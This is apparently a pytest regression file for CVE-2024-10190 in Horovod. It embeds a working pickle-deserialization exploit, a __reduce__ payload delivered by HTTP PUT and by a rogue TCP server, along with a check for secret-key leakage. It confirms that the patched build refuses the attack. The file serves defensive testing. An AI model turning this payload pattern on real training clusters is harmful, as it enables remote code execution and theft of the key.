"""CVE-2024-10190: Horovod as published runs what any host sends it, and ours does not."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from waiting import PATIENCE_S

from hvd_trainer.horovod_build import messages

# Runs in a process of its own, on the source tree in its working folder: a real elastic driver and rendezvous
# server, three attacks, and then an honest worker.
ATTACKS = """
import json, os, pickle, socketserver, struct, sys, threading, urllib.error, urllib.request
from horovod.runner.common.util import codec, network, secret
from horovod.runner.elastic.discovery import FixedHosts
from horovod.runner.elastic.driver import ElasticDriver
from horovod.runner.elastic.rendezvous import create_rendezvous_handler
from horovod.runner.elastic.worker import HostUpdateResult, WorkerNotificationManager
from horovod.runner.http.http_server import RendezvousServer

sys.path.insert(0, os.getcwd())
folder = sys.argv[1]
key = b"k" * 32


class Payload:
    def __init__(self, name):
        self.name = name

    def __reduce__(self):
        return os.mkdir, (os.path.join(folder, self.name),)


def request(method, path, data=None):
    url = f"http://127.0.0.1:{port}/{path}"
    try:
        with urllib.request.urlopen(urllib.request.Request(url, data, method=method)) as reply:
            return reply.status, reply.read()
    except urllib.error.HTTPError as error:
        return error.code, b""
    except OSError as error:
        return type(error).__name__, b""


def registration(addresses):
    try:
        from horovod.runner.elastic import messages
        return messages.encode_worker(addresses, key)
    except ImportError:
        return codec.dumps_base64((addresses, key), to_ascii=False)


class Rogue(socketserver.BaseRequestHandler):
    def handle(self):
        message = pickle.dumps(Payload("by_reply"))
        self.request.recv(65536)
        self.request.sendall(secret.compute_digest(key, message))
        self.request.sendall(struct.pack("i", len(message)) + message)


class Listener:
    heard = []

    def on_hosts_updated(self, timestamp, update_res):
        self.heard.append([timestamp, int(update_res), type(update_res).__name__])


rendezvous = RendezvousServer()
driver = ElasticDriver(rendezvous, FixedHosts({"localhost": 2}), 1, 2)
port = rendezvous.start(create_rendezvous_handler(driver))
driver.wait_for_available_slots(1)
result = {}

pickled = codec.dumps_base64(Payload("by_put"), to_ascii=False)
result["put"] = request("PUT", "worker_addresses/localhost:0", pickled)[0]

rogue = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Rogue)
threading.Thread(target=rogue.serve_forever, daemon=True).start()
request("PUT", "worker_addresses/localhost:1", registration({"lo": [rogue.server_address]}))

result["clients_after_attacks"] = len(driver._worker_clients)
manager = WorkerNotificationManager()
manager.register_listener(Listener())
manager.init("127.0.0.1", port, "lo", "localhost", 0)
status, value = request("GET", "worker_addresses/localhost:0")
result["get"] = status
result["key_leaks"] = manager._service._wire._key.hex().encode() in value or status == 200
driver._worker_clients["localhost", 0].notify_hosts_updated(7, HostUpdateResult.mixed)
result["heard"] = Listener.heard
result["ran"] = sorted(os.listdir(folder))
print(json.dumps(result), flush=True)
os._exit(0)
"""


def attack(source: Path, folder: Path) -> dict[str, object]:
    folder.mkdir()
    done = subprocess.run(
        [sys.executable, "-c", ATTACKS, str(folder)],
        cwd=source,
        env=os.environ | {"PYTHONPATH": str(source)},
        capture_output=True,
        text=True,
        timeout=PATIENCE_S,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    found = json.loads(done.stdout.splitlines()[-1])
    assert isinstance(found, dict)
    return found


def test_published_horovod_runs_what_any_host_sends(published: Path, tmp_path: Path) -> None:
    found = attack(published, tmp_path / "marks")
    assert found["ran"] == ["by_put", "by_reply"]
    assert found["key_leaks"]
    assert found["heard"] == [[7, 3, "HostUpdateResult"]]


def test_patched_horovod_refuses_the_attack_and_serves_workers(patched: Path, tmp_path: Path) -> None:
    found = attack(patched, tmp_path / "marks")
    assert found["ran"] == []
    assert found["put"] == 400
    assert found["get"] == 404
    assert not found["key_leaks"]
    assert found["clients_after_attacks"] == 0
    assert found["heard"] == [[7, 3, "HostUpdateResult"]]


class Ping:
    """A stand-in for Horovod's request classes, whose constructors take their attributes by name."""

    def __init__(self, name: str, count: int) -> None:
        self.name = name
        self.count = count


def test_messages_survive_a_round_trip() -> None:
    worker = {"eth0": [("10.0.0.1", 4000), ("10.0.0.2", 4000)], "lo": []}, bytes(range(32))
    assert messages.decode_worker(messages.encode_worker(*worker)) == worker
    ping = messages.decode_message(messages.encode_message(Ping("a", 2)), [Ping])
    assert isinstance(ping, Ping)
    assert vars(ping) == {"name": "a", "count": 2}


@pytest.mark.parametrize(
    "value",
    [
        b"",
        b"\x80\x05.",
        b"[]",
        b'{"addresses": {}}',
        b'{"addresses": [], "secret_key": "00"}',
        b'{"addresses": {}, "secret_key": "xy"}',
        b'{"addresses": {}, "secret_key": ""}',
        b'{"addresses": {"lo": 3}, "secret_key": "00"}',
        b'{"addresses": {"lo": [["h"]]}, "secret_key": "00"}',
        b'{"addresses": {"lo": [["h", 0]]}, "secret_key": "00"}',
        b'{"addresses": {"lo": [["h", true]]}, "secret_key": "00"}',
        b'{"addresses": {"lo": [[1, 2]]}, "secret_key": "00"}',
        b'{"addresses": {}, "secret_key": "00", "more": 1}',
        b"[" * 100_000,
        b" " * (messages.MAX_MESSAGE_BYTES + 1),
    ],
)
def test_malformed_workers_are_refused(value: bytes) -> None:
    with pytest.raises(messages.MalformedMessageError):
        messages.decode_worker(value)


@pytest.mark.parametrize(
    "value",
    [
        b'{"kind": "Other", "fields": {}}',
        b'{"kind": [], "fields": {}}',
        b'{"kind": "Ping", "fields": []}',
        b'{"kind": "Ping", "fields": {"name": "a"}}',
        b'{"kind": "Ping", "fields": {"name": "a", "count": {}}}',
    ],
)
def test_malformed_messages_are_refused(value: bytes) -> None:
    with pytest.raises(messages.MalformedMessageError):
        messages.decode_message(value, [Ping])
